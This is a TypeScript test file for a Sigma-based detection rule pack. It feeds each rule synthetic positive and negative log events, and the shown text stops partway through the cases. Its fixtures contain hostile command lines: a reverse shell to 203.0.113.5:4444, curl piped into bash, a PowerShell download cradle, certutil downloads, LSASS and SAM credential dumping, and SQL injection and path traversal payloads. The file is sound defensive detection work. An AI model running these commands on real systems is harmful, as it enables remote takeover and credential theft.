/**
 * The built-in rule pack (rules/ at the repository top): every alerting rule has ATT&CK tags and
 * a positive and a negative case here, run through the real decoders, the Sigma engine and the
 * correlator exactly as the workers and the main thread run them.
 */
import { describe, expect, it } from 'vitest'
import { decodeCsvRow, decodeRecord, decodeTextLine } from '../decode/index.js'
import { resolveAttack } from './attack.js'
import { BUILTIN_RULES_DIR } from './builtin.js'
import { StreamCorrelator, taskSignal } from '../correlate/signals.js'
import { SigmaEngine } from './sigma/engine.js'
import { loadDirs } from './sigma/load.js'
import { silencedRefs } from './sigma/correlation.js'

const engine = SigmaEngine.fromDirs([BUILTIN_RULES_DIR])

/** A row of a CSV file with a header (decoded as the CSV framing does). */
class CsvRow {
  constructor(readonly cells: Record<string, string>) {}
}

/** Titles of the alerts raised by a sequence of records (objects, CSV rows, or text lines). */
function alerts(records: unknown[]): string[] {
  const correlator = new StreamCorrelator(engine.correlations)
  const out: string[] = []
  records.forEach((r, i) => {
    const ctx = { id: `e${i + 1}`, ingested: '2026-11-23T10:00:00.000Z', source: 'test' }
    const res = typeof r === 'string' ? decodeTextLine(r, ctx) : r instanceof CsvRow ? decodeCsvRow(r.cells, ctx) : decodeRecord(r, ctx)
    if (!res.ok) throw new Error(`${res.code}: ${res.reason}`)
    const ev = res.event
    const { matches, signals } = engine.detect(r instanceof CsvRow ? r.cells : r, ev)
    for (const m of matches) out.push(m.title)
    const sigs = signals.map((s) => taskSignal(s, { index: i, eventId: ev.event.id, timestamp: ev['@timestamp'], entities: {} }))
    for (const a of correlator.feed(sigs).alerts) out.push(a.rule.title)
  })
  return out
}

const times = (n: number, f: (i: number) => unknown) => Array.from({ length: n }, (_, i) => f(i))
const pad = (i: number) => String(i).padStart(2, '0')
const sshFail = (i: number, ip = '203.0.113.9', user = 'root') => `Nov 23 10:00:${pad(i)} web1 sshd[4${pad(i)}]: Failed password for ${user} from ${ip} port ${40000 + i} ssh2`
const access = (i: number, req: string, status: number, ip = '198.51.100.23', ua = 'Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0') =>
  `${ip} - - [23/Nov/2026:10:00:${pad(i % 60)} +0000] "${req} HTTP/1.1" ${status} 512 "-" "${ua}"`
const sysmon = (id: number, data: Record<string, unknown>, t = '2026-11-23 10:00:00.000') => ({ EventID: id, Channel: 'Microsoft-Windows-Sysmon/Operational', SourceName: 'Microsoft-Windows-Sysmon', Hostname: 'ws1.corp.local', UtcTime: t, ...data })
const proc = (image: string, cmd: string, parent = 'C:\\Windows\\explorer.exe') => sysmon(1, { Image: image, CommandLine: cmd, ParentImage: parent, User: 'CORP\\alice' })
const security = (id: number, data: Record<string, unknown>, t = '2026-11-23 10:00:00') => ({ EventID: id, Channel: 'Security', SourceName: 'Microsoft-Windows-Security-Auditing', Hostname: 'dc1.corp.local', EventTime: t, ...data })
const system = (id: number, data: Record<string, unknown>) => ({ EventID: id, Channel: 'System', SourceName: 'Service Control Manager', Hostname: 'srv1.corp.local', EventTime: '2026-11-23 10:00:00', ...data })
const ecsProc = (name: string, cmd: string, parent?: string) => ({ '@timestamp': '2026-11-23T10:00:00Z', event: { category: ['process'], type: ['start'] }, host: { name: 'web1' }, process: { name, command_line: cmd, ...(parent ? { parent: { name: parent } } : {}) } })
const suricata = (signature: string, category = 'Misc activity') => ({ timestamp: '2026-11-23T10:00:00.000000+0000', event_type: 'alert', src_ip: '203.0.113.50', src_port: 51515, dest_ip: '10.0.0.10', dest_port: 80, proto: 'TCP', alert: { action: 'allowed', signature_id: 2000001, signature, category, severity: 2 } })
/** A row shaped like the AIT alert CSVs (their label columns left out). */
const aitCsvLike = (name: string, t = 1642723347) => new CsvRow({ time: String(t), name, ip: '172.19.130.4', host: 'mail', short: 'W-X' })
const conn = (src: string, dst: string, port: number, s: number, bytes = 100) => ({ _path: 'conn', ts: 1795428000 + s, uid: `C${src}${dst}${port}${s}`, 'id.orig_h': src, 'id.orig_p': 40000 + s, 'id.resp_h': dst, 'id.resp_p': port, proto: 'tcp', conn_state: 'S0', orig_bytes: bytes, resp_bytes: 0 })

/** A Zeek log entry as the JSON writer (or the ASCII framing) gives it. */
const zeek = (path: string, fields: Record<string, unknown>, s = 0, src = '10.0.0.66', dst = '10.0.0.10', port = 445) => ({ _path: path, ts: 1795428000 + s, uid: `C${path}${s}`, 'id.orig_h': src, 'id.orig_p': 50000 + s, 'id.resp_h': dst, 'id.resp_p': port, ...fields })
const rpc = (endpoint: string, operation: string, s = 0, dst = '10.0.0.10') => zeek('dce_rpc', { named_pipe: '\\pipe\\' + endpoint, endpoint, operation }, s, '10.0.0.66', dst)
const tgs = (service: string, cipher: string, s = 0) => zeek('kerberos', { request_type: 'TGS', client: 'alice/CORP.LOCAL', service, success: true, cipher }, s, '10.0.0.66', '10.0.0.2', 88)
const dnsq = (query: string, s = 0, rcode = 'NOERROR', qtype = 'A') => zeek('dns', { proto: 'udp', trans_id: 100 + s, query, qtype_name: qtype, rcode_name: rcode }, s, '10.0.0.66', '10.0.0.2', 53)
const st4769 = (service: string, enc: string, s: number) => security(4769, { ServiceName: service, TicketEncryptionType: enc, Status: '0x0', IpAddress: '::ffff:10.0.0.66', TargetUserName: 'alice@CORP.LOCAL' }, `2026-11-23 10:00:${pad(s)}`)
const hex = (i: number) => Buffer.from(`secret-record-${i}-of-the-payroll-export`).toString('hex')

const cloudtrail = (eventName: string, arn: string, t: string, extra: Record<string, unknown> = {}) => ({
  eventVersion: '1.08', eventTime: t, eventSource: 's3.amazonaws.com', eventName, awsRegion: 'us-east-1', sourceIPAddress: '203.0.113.10',
  userIdentity: { type: 'AssumedRole', arn, accountId: '123456789012' }, requestParameters: { bucketName: 'finance-reports', key: 'q3.xlsx' }, ...extra,
})
const ROLE = 'arn:aws:sts::123456789012:assumed-role/WebRole/i-0abc'

/** A record in the seed systems' shape, with their event type (an identifier or free text). */
const seed = (event_type: string) => ({ timestamp: '2026-11-23T10:00:00Z', event_type, source_ip: '198.51.100.9', dest_ip: '10.0.0.7', username: 'alice', hostname: 'db-01', raw_log: event_type })

interface Case {
  positive: unknown[]
  negative: unknown[]
}

/** Rule title -> a sequence that must raise it and one that must not. */
const CASES: Record<string, Case> = {
  'SSH Brute Force': {
    positive: times(10, (i) => sshFail(i)),
    negative: [...times(9, (i) => sshFail(i)), ...times(10, (i) => sshFail(i, `203.0.113.${100 + i}`))],
  },
  'Brute Force Followed By Successful Login': {
    positive: [...times(10, (i) => sshFail(i)), 'Nov 23 10:01:00 web1 sshd[999]: Accepted password for root from 203.0.113.9 port 41000 ssh2'],
    negative: [...times(10, (i) => sshFail(i)), 'Nov 23 10:01:00 web1 sshd[999]: Accepted password for root from 198.51.100.1 port 41000 ssh2'],
  },
  'Windows Logon Brute Force (RDP, SMB, Kerberos)': {
    positive: times(10, (i) => security(4625, { TargetUserName: 'administrator', IpAddress: '10.0.0.66', LogonType: 3, Keywords: 'Audit Failure' }, `2026-11-23 10:00:${pad(i)}`)),
    negative: times(10, (i) => security(4625, { TargetUserName: 'administrator', IpAddress: '-', LogonType: 2, Keywords: 'Audit Failure' }, `2026-11-23 10:00:${pad(i)}`)),
  },
  'Web Login Brute Force': {
    positive: times(20, (i) => access(i, 'POST /admin/login', 401)),
    negative: times(20, (i) => access(i, 'POST /admin/login', 200)),
  },
  'Password Spraying': {
    positive: times(6, (i) => sshFail(i, '203.0.113.9', `user${i}`)),
    negative: times(6, (i) => sshFail(i, '203.0.113.9', `user${i % 5}`)),
  },
  'Password Spraying From A Host': {
    positive: ['lrodriguez', 'pgustavo', 'sbeavers', 'mscott', 'pbeesly'].map((u, i) => security(4625, { TargetUserName: u, IpAddress: '-', LogonType: 2, Keywords: 'Audit Failure', Hostname: 'ws5' }, `2026-11-23 10:00:0${i}`)),
    negative: [
      ...['lrodriguez', 'pgustavo', 'sbeavers', 'mscott'].map((u, i) => security(4625, { TargetUserName: u, IpAddress: '-', LogonType: 2, Keywords: 'Audit Failure' }, `2026-11-23 10:00:0${i}`)),
      ...['a', 'b', 'c', 'd', 'e', 'f'].map((u, i) => security(4776, { TargetUserName: u, Keywords: 'Audit Failure' }, `2026-11-23 10:00:0${i}`)),
    ],
  },
  'Network Share Enumeration Across Hosts': {
    positive: ['dc1', 'ws6', 'ws7'].map((h, i) => ({ ...security(5145, { ShareName: '\\\\*\\IPC$', RelativeTargetName: 'srvsvc', IpAddress: '10.0.0.66', SubjectUserName: 'alice' }, `2026-11-23 10:00:0${i}`), Hostname: h })),
    negative: [
      ...['dc1', 'ws6'].map((h, i) => ({ ...security(5145, { ShareName: '\\\\*\\IPC$', RelativeTargetName: 'srvsvc', IpAddress: '10.0.0.66', SubjectUserName: 'alice' }, `2026-11-23 10:00:0${i}`), Hostname: h })),
      ...['dc1', 'ws6', 'ws7'].map((h, i) => ({ ...security(5145, { ShareName: '\\\\*\\IPC$', RelativeTargetName: 'lsarpc', IpAddress: '10.0.0.66', SubjectUserName: 'alice' }, `2026-11-23 10:00:0${i}`), Hostname: h })),
    ],
  },
  'S3 Bucket Discovery And Object Download By One Principal': {
    positive: [cloudtrail('ListBuckets', ROLE, '2026-11-23T10:00:00Z'), cloudtrail('GetObject', ROLE, '2026-11-23T10:05:00Z')],
    negative: [
      cloudtrail('ListBuckets', ROLE, '2026-11-23T10:00:00Z'),
      cloudtrail('GetObject', 'arn:aws:sts::123456789012:assumed-role/BackupRole/i-0def', '2026-11-23T10:05:00Z'),
      cloudtrail('GetObject', ROLE, '2026-11-23T11:00:00Z'),
      cloudtrail('GetObject', ROLE, '2026-11-23T10:06:00Z', { errorCode: 'AccessDenied' }),
    ],
  },
  'Brute Force Reported By A HIDS': {
    positive: [aitCsvLike('Wazuh: Dovecot brute force attack (multiple auth failures).'), aitCsvLike('Wazuh: PAM: Multiple failed logins in a small period of time.')],
    negative: [aitCsvLike('Wazuh: PAM: User login failed.')],
  },
  'Privilege Change Reported By A HIDS': {
    positive: [aitCsvLike('Wazuh: Successful sudo to ROOT executed.'), aitCsvLike('Wazuh: User successfully changed UID.')],
    negative: [aitCsvLike('Wazuh: PAM: Login session opened.')],
  },
  'Web Request Anomaly': {
    positive: [aitCsvLike('AMiner: High entropy in Apache Access request.'), aitCsvLike('AMiner: New request method in Apache Access log.')],
    negative: [aitCsvLike('AMiner: New ip address in DNS logs.'), aitCsvLike('Wazuh: Web server 400 error code.')],
  },
  'Account Or Privilege Anomaly': {
    positive: [aitCsvLike('AMiner: New user_acct parameter combination in Audit logs.')],
    negative: [aitCsvLike('AMiner: New syscall parameter combination in Audit logs.')],
  },
  'Service Start Or Stop Anomaly': {
    positive: [aitCsvLike('AMiner: New service_stop parameter combination in Audit logs.')],
    negative: [aitCsvLike('Wazuh: PAM: Login session opened.')],
  },
  'DNS Anomaly': {
    positive: [aitCsvLike('AMiner: New characters in DNS domain.'), aitCsvLike('AMiner: High entropy in DNS domain.')],
    negative: [aitCsvLike('AMiner: Unusual occurrence frequencies of DNS query IPs.')],
  },
  'Resource Usage Anomaly': {
    positive: [aitCsvLike('AMiner: CPU value out of expected range in monitoring logs.')],
    negative: [aitCsvLike('Suricata: Alert - ET INFO Observed DNS Query to .biz TLD')],
  },
  'Port Scan': {
    positive: times(30, (i) => conn('10.0.0.66', '10.0.0.10', 1000 + i, i)),
    negative: times(30, (i) => conn('10.0.0.66', '10.0.0.10', 443, i)),
  },
  'Host Sweep': {
    positive: times(30, (i) => conn('10.0.0.66', `10.0.1.${i + 1}`, 445, i)),
    negative: times(10, (i) => conn('10.0.0.66', `10.0.1.${i + 1}`, 445, i)),
  },
  'Privilege Escalation Reported By The Source': {
    positive: [seed('Privilege Escalation'), seed('privilege_escalation'), suricata('ET EXPLOIT Possible Privilege Escalation Attempt', 'Attempted User Privilege Gain')],
    negative: [seed('ssh_failed_login'), seed('successful_login')],
  },
  'Lateral Movement Reported By The Source': {
    positive: [seed('Lateral Movement'), seed('lateral_movement')],
    negative: [seed('port_scan')],
  },
  'Credential Dumping Reported By The Source': {
    positive: [seed('credential_dumping'), seed('Credential Dumping')],
    negative: [seed('Failed Login')],
  },
  'Data Exfiltration Reported By The Source': {
    positive: [seed('data_exfiltration'), seed('Data Exfiltration')],
    negative: [seed('connection')],
  },
  'Persistence Reported By The Source': {
    positive: [seed('persistence')],
    negative: [seed('process_start')],
  },
  'Scan Reported By An IDS': {
    positive: [suricata('ET SCAN Possible Nmap User-Agent Observed', 'Web Application Attack'), aitCsvLike('Wazuh: sshd: insecure connection attempt (scan).')],
    negative: [suricata('ET POLICY GNU/Linux APT User-Agent Outbound likely related to package management')],
  },
  'Scanner Or Attack Tool User Agent': {
    positive: [access(0, 'GET /', 200, '198.51.100.23', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)')],
    negative: [access(0, 'GET /', 200)],
  },
  'Forced Browsing (Web Content Discovery)': {
    positive: times(30, (i) => access(i, `GET /backup${i}.zip`, 404)),
    negative: times(29, (i) => access(i, `GET /backup${i}.zip`, 404)),
  },
  'Repeated Web Errors Reported By A HIDS': {
    positive: [aitCsvLike('Wazuh: Multiple web server 400 error codes from same source ip.')],
    negative: [aitCsvLike('Wazuh: Web server 400 error code.')],
  },
  'PsExec Service Or Pipe': {
    positive: [system(7045, { ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe' }), sysmon(17, { PipeName: '\\PSEXESVC-WS2-1234-stdin', Image: 'C:\\Windows\\PSEXESVC.exe' })],
    negative: [system(7045, { ServiceName: 'Spooler', ImagePath: 'C:\\Windows\\System32\\spoolsv.exe' })],
  },
  'Process Spawned By WMI Provider Host': {
    positive: [proc('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1700 2>&1', 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe')],
    negative: [proc('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c dir')],
  },
  'Remote Service Created With sc.exe': {
    positive: [proc('C:\\Windows\\System32\\sc.exe', 'sc \\\\srv02 create updater binPath= C:\\Users\\Public\\u.exe')],
    negative: [proc('C:\\Windows\\System32\\sc.exe', 'sc query spooler')],
  },
  'Service Created With A Command Shell As Its Binary': {
    positive: [
      system(7045, { ServiceName: 'BTOBTO', ImagePath: '%COMSPEC% /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat' }),
      security(4697, { ServiceName: 'PGUJLOAK', ServiceFileName: '%COMSPEC% /C "start /b C:\\Windows\\System32\\WindowsPowershell\\v1.0\\powershell -noP -sta -w 1 -enc SQBGAC..."' }),
    ],
    negative: [system(7045, { ServiceName: 'Spooler', ImagePath: 'C:\\Windows\\System32\\spoolsv.exe' }), system(7045, { ServiceName: 'Updater', ImagePath: '"C:\\Program Files\\Vendor\\update.exe" --service' })],
  },
  'Service Control Pipe Opened From Another Computer': {
    positive: [security(5145, { ShareName: '\\\\*\\IPC$', RelativeTargetName: 'svcctl', IpAddress: '172.18.39.5' })],
    negative: [security(5145, { ShareName: '\\\\*\\IPC$', RelativeTargetName: 'svcctl', IpAddress: '127.0.0.1' }), security(5145, { ShareName: '\\\\*\\IPC$', RelativeTargetName: 'lsarpc', IpAddress: '172.18.39.5' })],
  },
  'Administrative Share Accessed Over The Network': {
    positive: [security(5140, { ShareName: '\\\\*\\ADMIN$', IpAddress: '10.0.0.66', SubjectUserName: 'alice' })],
    negative: [security(5140, { ShareName: '\\\\*\\IPC$', IpAddress: '10.0.0.66', SubjectUserName: 'alice' }), security(5140, { ShareName: '\\\\*\\C$', IpAddress: '127.0.0.1', SubjectUserName: 'alice' })],
  },
  'Account Logging On To Many Hosts': {
    positive: times(4, (i) => ({ ...security(4624, { TargetUserName: 'alice', IpAddress: '10.0.0.66', LogonType: 3 }, `2026-11-23 10:0${i}:00`), Hostname: `srv${i}.corp.local` })),
    negative: [
      ...times(3, (i) => ({ ...security(4624, { TargetUserName: 'alice', IpAddress: '10.0.0.66', LogonType: 3 }, `2026-11-23 10:0${i}:00`), Hostname: `srv${i}.corp.local` })),
      ...times(6, (i) => ({ ...security(4624, { TargetUserName: 'WS1$', IpAddress: '10.0.0.66', LogonType: 3 }, `2026-11-23 10:0${i}:00`), Hostname: `srv${i}.corp.local` })),
    ],
  },
  'LSASS Memory Access': {
    positive: [sysmon(10, { SourceImage: 'C:\\Users\\alice\\Downloads\\m64.exe', TargetImage: 'C:\\Windows\\system32\\lsass.exe', GrantedAccess: '0x1010' })],
    negative: [sysmon(10, { SourceImage: 'C:\\Windows\\System32\\svchost.exe', TargetImage: 'C:\\Windows\\system32\\lsass.exe', GrantedAccess: '0x1010' }), sysmon(10, { SourceImage: 'C:\\Users\\alice\\a.exe', TargetImage: 'C:\\Windows\\explorer.exe', GrantedAccess: '0x1010' })],
  },
  'Credential Dumping Command': {
    positive: [proc('C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\out.dmp full'), proc('C:\\Windows\\System32\\reg.exe', 'reg save HKLM\\SAM C:\\temp\\sam.save')],
    negative: [proc('C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe shell32.dll,Control_RunDLL'), proc('C:\\Windows\\System32\\reg.exe', 'reg query HKLM\\Software')],
  },
  'Password Cracking Tool': {
    positive: [ecsProc('john', 'john --wordlist=/usr/share/wordlists/rockyou.txt hashes.txt')],
    negative: [ecsProc('johnny', 'johnny --help')],
  },
  'Encoded Or Download-Cradle PowerShell': {
    positive: [
      proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -nop -w hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAA='),
      proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', "powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')"),
    ],
    negative: [proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -File C:\\scripts\\backup.ps1')],
  },
  'Download Through A Signed Windows Binary': {
    positive: [proc('C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.5/a.exe C:\\Users\\Public\\a.exe')],
    negative: [proc('C:\\Windows\\System32\\certutil.exe', 'certutil.exe -hashfile a.exe SHA256')],
  },
  'Office Application Spawning A Shell': {
    positive: [proc('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c start calc', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE')],
    negative: [proc('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c start calc'), proc('C:\\Windows\\splwow64.exe', 'splwow64.exe 8192', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE')],
  },
  'Reverse Shell Command': {
    positive: [ecsProc('bash', 'bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'), ecsProc('python3', `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.5",4444))'`)],
    negative: [ecsProc('bash', 'bash -c ls -la /var/www')],
  },
  'Download Piped Into A Shell': {
    positive: [ecsProc('sh', 'sh -c curl -s http://203.0.113.5/i.sh | bash')],
    negative: [ecsProc('curl', 'curl -o report.json https://api.example.com/v1/report')],
  },
  'Web Server Spawning A Shell': {
    positive: [ecsProc('sh', 'sh -c id', 'apache2')],
    negative: [ecsProc('sh', 'sh -c id', 'sshd')],
  },
  'Shell Started Through Sudo': {
    positive: ['Nov 23 10:00:00 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash'],
    negative: ['Nov 23 10:00:00 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update'],
  },
  'Registry Run Key Modified': {
    positive: [sysmon(13, { EventType: 'SetValue', Image: 'C:\\Users\\alice\\a.exe', TargetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater', Details: 'C:\\Users\\alice\\a.exe' })],
    negative: [sysmon(13, { EventType: 'SetValue', Image: 'C:\\Windows\\explorer.exe', TargetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\x', Details: 'Binary Data' })],
  },
  'Service Installed': {
    positive: [system(7045, { ServiceName: 'updater', ImagePath: 'C:\\Users\\Public\\u.exe' })],
    negative: [system(7036, { param1: 'Spooler', param2: 'running' })],
  },
  'Scheduled Task Or Cron Job Created': {
    positive: [proc('C:\\Windows\\System32\\schtasks.exe', 'schtasks /create /tn upd /tr C:\\Users\\Public\\u.exe /sc onlogon'), ecsProc('crontab', 'crontab /tmp/cron.txt')],
    negative: [proc('C:\\Windows\\System32\\schtasks.exe', 'schtasks /query /fo LIST'), ecsProc('crontab', 'crontab -l')],
  },
  'Systemd Service Unit Created Or Enabled': {
    positive: [{ '@timestamp': '2026-11-23T10:00:00Z', event: { category: ['file'], type: ['creation'] }, host: { name: 'web1' }, file: { path: '/etc/systemd/system/updater.service' } }, ecsProc('systemctl', 'systemctl enable updater.service')],
    negative: [{ '@timestamp': '2026-11-23T10:00:00Z', event: { category: ['file'], type: ['creation'] }, host: { name: 'web1' }, file: { path: '/etc/systemd/resolved.conf' } }],
  },
  'Local Account Created': {
    positive: [security(4720, { TargetUserName: 'helpdesk2', SubjectUserName: 'alice' }), ecsProc('useradd', 'useradd -m -s /bin/bash backdoor')],
    negative: [security(4722, { TargetUserName: 'helpdesk2', SubjectUserName: 'alice' })],
  },
  'SSH Authorized Keys Modified': {
    positive: [ecsProc('bash', 'bash -c echo ssh-rsa AAAAB3Nza... >> /root/.ssh/authorized_keys')],
    negative: [ecsProc('bash', 'bash -c cat /etc/hosts')],
  },
  'Large Outbound Data Transfer': {
    positive: [conn('10.1.1.5', '198.51.100.7', 443, 0, 300_000_000), conn('10.1.1.5', '198.51.100.7', 443, 600, 300_000_000)],
    negative: [conn('10.1.1.5', '10.2.2.2', 445, 0, 300_000_000), conn('10.1.1.5', '10.2.2.2', 445, 600, 300_000_000), conn('10.1.1.5', '198.51.100.7', 443, 0, 1_000_000)],
  },
  'DNS Tunnelling Or Exfiltration Reported By An IDS': {
    positive: [suricata('ET POLICY DNS Tunneling Detected (iodine)')],
    negative: [suricata('ET INFO Observed DNS Query to .cloud TLD')],
  },
  'Antivirus Detection': {
    positive: [
      { EventID: 1116, Channel: 'Microsoft-Windows-Windows Defender/Operational', SourceName: 'Microsoft-Windows-Windows Defender', Hostname: 'ws1', EventTime: '2026-11-23 10:00:00', 'Threat Name': 'HackTool:Win64/Mikatz!dha' },
      'Nov 23 10:00:00 mail clamd[991]: /var/www/uploads/shell.php: Php.Webshell-1 FOUND',
    ],
    negative: [aitCsvLike('Wazuh: ClamAV database update'), 'Nov 23 10:00:00 mail clamd[991]: Database correctly reloaded (8700000 signatures)'],
  },
  'Malware Or Command And Control Signature': {
    positive: [suricata('ET MALWARE Win32/Emotet CnC Activity (POST) M3')],
    negative: [suricata('ET POLICY Outgoing Basic Auth Base64 HTTP Password detected unencrypted')],
  },
  'Exploit Or Web Attack Signature': {
    positive: [suricata('ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT'), suricata('Some vendor rule', 'Web Application Attack')],
    negative: [suricata('SURICATA TLS invalid record/traffic', 'Generic Protocol Command Decode')],
  },
  'Web Attack Payload In Request': {
    positive: [access(0, 'GET /item.php?id=1%20union%20select%201,2,3', 200), access(1, 'GET /download?file=../../../../etc/passwd', 200)],
    negative: [access(0, 'GET /item.php?id=12', 200)],
  },
  'Remote System Discovery Command': {
    positive: [ecsProc('arp', 'arp -a'), 'type=EXECVE msg=audit(1604994496.155:92733): argc=2 a0="arp" a1="-a"', ecsProc('cmd.exe', 'cmd.exe /c net view /domain'), proc('C:\\Windows\\System32\\nltest.exe', 'nltest /dclist:corp.local'), ecsProc('bash', 'ip neigh show')],
    negative: [ecsProc('arp', 'arp'), ecsProc('ip', 'ip addr show'), proc('C:\\Windows\\System32\\net.exe', 'net use Z: \\\\fs1\\share')],
  },
  'Remote Service Created Or Started Over DCE-RPC': {
    positive: [rpc('svcctl', 'CreateServiceW'), rpc('svcctl', 'StartServiceW')],
    negative: [rpc('svcctl', 'OpenSCManagerW'), rpc('svcctl', 'QueryServiceStatus'), rpc('winreg', 'OpenHKLM')],
  },
  'Remote Scheduled Task Over DCE-RPC': {
    positive: [rpc('ITaskSchedulerService', 'SchRpcRegisterTask'), rpc('atsvc', 'NetrJobAdd')],
    negative: [rpc('ITaskSchedulerService', 'SchRpcGetTaskInfo')],
  },
  'Remote WMI Method Execution Over DCOM': {
    positive: [rpc('IWbemServices', 'ExecMethod')],
    negative: [rpc('IWbemServices', 'ExecQuery'), rpc('IRemoteSCMActivator', 'RemoteCreateInstance')],
  },
  'Remote Registry Changed Over DCE-RPC': {
    positive: [rpc('winreg', 'BaseRegSetValue'), rpc('winreg', 'BaseRegCreateKey')],
    negative: [rpc('winreg', 'BaseRegQueryValue'), rpc('winreg', 'OpenHKLM')],
  },
  'Executable Written To An Administrative Share': {
    positive: [zeek('smb_files', { action: 'SMB::FILE_WRITE', path: '\\\\10.0.0.10\\ADMIN$', name: 'PSEXESVC.exe', size: 190000 })],
    negative: [
      zeek('smb_files', { action: 'SMB::FILE_WRITE', path: '\\\\10.0.0.10\\shared', name: 'setup.exe', size: 190000 }),
      zeek('smb_files', { action: 'SMB::FILE_OPEN', path: '\\\\10.0.0.10\\C$', name: 'report.docx', size: 1000 }),
    ],
  },
  'RDP Brute Force': {
    positive: times(15, (i) => conn('203.0.113.9', '10.0.0.10', 3389, i)),
    negative: [...times(14, (i) => conn('203.0.113.9', '10.0.0.10', 3389, i)), ...times(15, (i) => conn('203.0.113.9', '10.0.0.10', 443, i))],
  },
  'WinRM Request To Another Host': {
    positive: [zeek('http', { method: 'POST', host: '10.0.0.10', uri: '/wsman', user_agent: 'Microsoft WinRM Client', status_code: 200 }, 0, '10.0.0.66', '10.0.0.10', 5985)],
    negative: [zeek('http', { method: 'GET', host: 'intranet', uri: '/wsman-docs.html', status_code: 200 }, 0, '10.0.0.66', '10.0.0.10', 80)],
  },
  'Process Started From A WinRM Remote Session': {
    positive: [proc('C:\\Windows\\System32\\whoami.exe', 'whoami /all', 'C:\\Windows\\System32\\wsmprovhost.exe')],
    negative: [proc('C:\\Windows\\System32\\wsmprovhost.exe', 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding', 'C:\\Windows\\System32\\svchost.exe')],
  },
  'Directory Replication Requested Over DCE-RPC (DCSync)': {
    positive: [rpc('drsuapi', 'DRSGetNCChanges')],
    negative: [rpc('drsuapi', 'DRSBind'), rpc('drsuapi', 'DRSCrackNames')],
  },
  'Registry Hive Saved Remotely Over DCE-RPC': {
    positive: [rpc('winreg', 'BaseRegSaveKey')],
    negative: [rpc('winreg', 'BaseRegOpenKey')],
  },
  'Authentication Coercion Over DCE-RPC': {
    positive: [rpc('efsrpc', 'EfsRpcOpenFileRaw'), rpc('lsarpc', 'EfsRpcEncryptFileSrv'), rpc('spoolss', 'RpcRemoteFindFirstPrinterChangeNotificationEx')],
    negative: [rpc('spoolss', 'RpcOpenPrinter'), rpc('lsarpc', 'LsarLookupSids')],
  },
  'Kerberoasting (RC4 Service Tickets For Several Services)': {
    positive: ['MSSQLSvc/db1.corp.local:1433', 'HTTP/web1.corp.local', 'cifs/fs1.corp.local'].map((svc, i) => tgs(svc, 'rc4-hmac', i)),
    negative: [
      ...['MSSQLSvc/db1.corp.local:1433', 'HTTP/web1.corp.local', 'cifs/fs1.corp.local'].map((svc, i) => tgs(svc, 'aes256-cts-hmac-sha1-96', i)),
      ...['krbtgt/CORP.LOCAL', 'krbtgt/CORP.LOCAL', 'HTTP/web1.corp.local'].map((svc, i) => tgs(svc, 'rc4-hmac', i)),
    ],
  },
  'Kerberoasting (RC4 Service Tickets For Several Accounts)': {
    positive: ['sqlsvc', 'websvc', 'backupsvc'].map((svc, i) => st4769(svc, '0x17', i)),
    negative: [...['sqlsvc', 'websvc', 'backupsvc'].map((svc, i) => st4769(svc, '0x12', i)), ...['WS1$', 'WS2$', 'sqlsvc'].map((svc, i) => st4769(svc, '0x17', i))],
  },
  'Kerberos Ticket Without Pre-Authentication (AS-REP Roasting)': {
    positive: [security(4768, { TargetUserName: 'legacyapp', PreAuthType: '0', TicketEncryptionType: '0x17', Status: '0x0', IpAddress: '::ffff:10.0.0.66' })],
    negative: [security(4768, { TargetUserName: 'alice', PreAuthType: '2', TicketEncryptionType: '0x12', Status: '0x0', IpAddress: '::ffff:10.0.0.66' })],
  },
  'DNS Tunnelling (Many Unique Names Under One Domain)': {
    positive: times(60, (i) => dnsq(`${i.toString(36)}x${(i * 7919).toString(36)}.t.exfil-example.net`, i)),
    negative: [...times(59, (i) => dnsq(`${i.toString(36)}x.t.exfil-example.net`, i)), ...times(60, (i) => dnsq('www.example.com', i))],
  },
  'DNS Exfiltration (Repeated Encoded Names)': {
    positive: times(10, (i) => dnsq(`${hex(i).slice(0, 60)}.${i}.data.exfil-example.net`, i)),
    negative: [...times(9, (i) => dnsq(`${hex(i).slice(0, 60)}.${i}.data.exfil-example.net`, i)), ...times(10, (i) => dnsq(`mail${i}.example.com`, i))],
  },
  'DNS Zone Transfer Request': {
    positive: [dnsq('corp.local', 0, 'NOERROR', 'AXFR')],
    negative: [dnsq('corp.local', 0, 'NOERROR', 'SOA')],
  },
  'DNS Name Brute Force': {
    positive: times(50, (i) => dnsq(`host${i}.corp.local`, i, 'NXDOMAIN')),
